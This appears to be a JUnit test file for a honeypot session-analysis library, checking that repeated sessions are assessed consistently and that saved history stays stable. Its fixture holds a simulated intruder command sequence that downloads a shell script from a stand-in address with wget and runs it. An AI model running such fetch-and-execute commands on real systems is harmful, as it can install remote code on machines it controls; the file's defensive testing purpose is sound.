package io.github.cowriekit.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.cowriekit.model.Endpoint;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.model.assessment.Assessment;
import io.github.cowriekit.model.assessment.CredentialView;
import io.github.cowriekit.model.assessment.history.ClusterLink;
import io.github.cowriekit.model.assessment.history.HistoryScope;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A session that the history holds already: it is counted once, and compared with the others. */
class RepeatedSessionTest {
    private static final String[] COMMANDS = {"cd /opt", "wget http://192.0.2.7/a/x.sh", "sh x.sh"};

    private final SessionHistory history = SessionHistory.create();
    private final Analysis analysis = Analysis.builder().history(history).build();

    @TempDir
    private Path folder;

    @Test
    void tellsTheSameNewsAgain() {
        others(100);
        Session session = from("203.0.113.1", 0);
        Assessment first = analysis.assess(session);
        Assessment again = analysis.assess(session);

        assertThat(again.interest()).isEqualTo(first.interest());
        assertThat(again.operator()).isEqualTo(first.operator());
        assertThat(again.cluster()).isEqualTo(first.cluster());
        assertThat(again.credentials()).isEqualTo(first.credentials());
        assertThat(scope(first)).isEqualTo(new HistoryScope(100, Sessions.START, false, false));
        assertThat(scope(again)).isEqualTo(new HistoryScope(100, Sessions.START, false, true));
    }

    @Test
    void isComparedWithTheOthersLaterOnesIncluded() {
        Session session = from("203.0.113.1", 0);
        analysis.assess(session);
        analysis.assess(from("203.0.113.4", 1));
        analysis.assess(from("203.0.113.5", 2));

        ClusterLink link = Objects.requireNonNull(analysis.assess(session).cluster());
        assertThat(link.reason()).isEqualTo(ClusterLink.Reason.SAME_SEQUENCE);
        assertThat(link.sessions()).isEqualTo(2);
        assertThat(link.sources()).isEqualTo(2);
        CredentialView pair = analysis.assess(session).credentials().get(0);
        assertThat(pair.earlier()).isEqualTo(2);
        assertThat(pair.earlierSources()).isEqualTo(2);
    }

    @Test
    void changesNothingThatIsSaved() throws IOException {
        List<Session> sessions = new ArrayList<>();
        for (int i = 0; i < 40; i++) {
            sessions.add(from("203.0.113." + i % 7, i));
        }
        sessions.forEach(analysis::assess);
        history.save(folder.resolve("once"));
        sessions.forEach(analysis::assess);
        history.save(folder.resolve("twice"));

        // in what order things were used last is remembered, too
        assertThat(Files.size(folder.resolve("twice"))).isEqualTo(Files.size(folder.resolve("once")));
        Analysis once = Analysis.builder()
                .history(SessionHistory.load(folder.resolve("once")))
                .build();
        Analysis twice = Analysis.builder()
                .history(SessionHistory.load(folder.resolve("twice")))
                .build();
        Session next = from("203.0.113.9", 99);
        assertThat(twice.assess(next)).isEqualTo(once.assess(next));
    }

    @Test
    void doesNotComeBackToItsOwnFile() {
        Session session = Sessions.ran("echo 7 > /opt/notes", "cat /opt/notes").build();
        Session looking = Sessions.ran("touch /opt/other; cat /opt/another", "cat /opt/other")
                .build();
        for (Session each : List.of(session, looking)) {
            assertThat(analysis.assess(each).operator())
                    .isEqualTo(analysis.assess(each).operator());
        }
    }

    @Test
    void cannotBeRecognisedWithoutAStart() {
        Session session = Sessions.ran(COMMANDS).startedAt(null).build();
        analysis.assess(session);

        assertThat(scope(analysis.assess(session))).isEqualTo(new HistoryScope(1, null, false, false));
    }

    @Test
    void saysHowMuchALoadedHistoryHolds() {
        others(3);
        history.save(folder.resolve("history"));
        Analysis later = Analysis.builder()
                .history(SessionHistory.load(folder.resolve("history")))
                .build();

        assertThat(scope(later.assess(from("203.0.113.1", 0))).text()).isEqualTo("in 3 sessions since 2026-05-24");
        assertThat(scope(analysis.assess(from("203.0.113.1", 0))).text()).isEqualTo("in this input");
        assertThat(Analysis.standard().assess(from("203.0.113.1", 0)).history()).isNull();
    }

    private void others(int number) {
        for (int i = 0; i < number; i++) {
            analysis.assess(Sessions.ran("uname -a").build());
        }
    }

    private static HistoryScope scope(Assessment assessment) {
        return Objects.requireNonNull(assessment.history());
    }

    private static Session from(String address, int minutes) {
        Instant start = Sessions.START.plusSeconds(60L * minutes);
        return Sessions.withId("fd5ac84ee8f9", COMMANDS)
                .source(new Endpoint(address, 40_000))
                .startedAt(start)
                .build();
    }
}
